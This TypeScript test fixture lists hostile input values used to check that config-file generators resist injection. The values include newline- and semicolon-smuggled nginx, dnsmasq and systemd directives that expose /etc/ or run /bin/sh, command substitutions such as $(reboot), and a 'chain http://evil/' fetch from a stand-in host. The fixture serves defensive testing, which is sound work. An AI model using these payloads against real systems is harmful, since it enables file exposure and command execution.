// Hostile values for the single-field attacker tests (test/hostile.test.ts, test/generic.test.ts).

/** Payloads that would change the structure of some generated file. */
export const PAYLOADS = [
  '/srv/x;\n location /leak/ { alias /etc/; }',
  '/srv/x; location /leak/ { alias /etc/; }',
  'eth0\ndhcp-script=/bin/sh',
  '0.0.0.0\nExecStartPre=/bin/sh -c id',
  'a || shell',
  'x ; chain http://evil/',
  '${net0/mac}',
  '$(reboot)',
  "'; reboot; '",
  '#comment',
  'a"b',
  'x\u2028y',
  'a\\',
  'http://10.0.0.1/a#{;}',
  '--help',
];
